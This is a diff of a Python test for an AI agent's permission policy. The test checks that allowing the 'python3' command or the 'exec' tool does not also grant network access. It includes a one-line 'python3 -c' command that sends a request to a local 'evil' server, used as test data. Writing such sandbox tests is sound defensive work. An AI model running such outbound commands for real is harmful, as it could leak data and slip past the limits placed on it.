@@ -32,7 +32,7 @@ def policy(*rules: Rule) -> dict[str, Any]:
 async def test_to_allow_a_command_is_not_to_allow_it_the_network(scene: Scene, evil: Server) -> None:
     send = f"import urllib.request as u; u.urlopen('http://127.0.0.1:{evil.port}/gone')"
     calls = call("exec", command=f'python3 -c "{send}"', network=True)
-    for allowed in (Rule(do="allow", command="python3"), Rule(do="allow", tool="exec"), Rule(do="allow")):
+    for allowed in (Rule(do="allow", command="python3"), Rule(do="allow", tool="exec", command="*")):
         await scene.run(calls, **policy(allowed))
     assert evil.requests == []
     named = Rule(do="allow", command="python3", network=True)
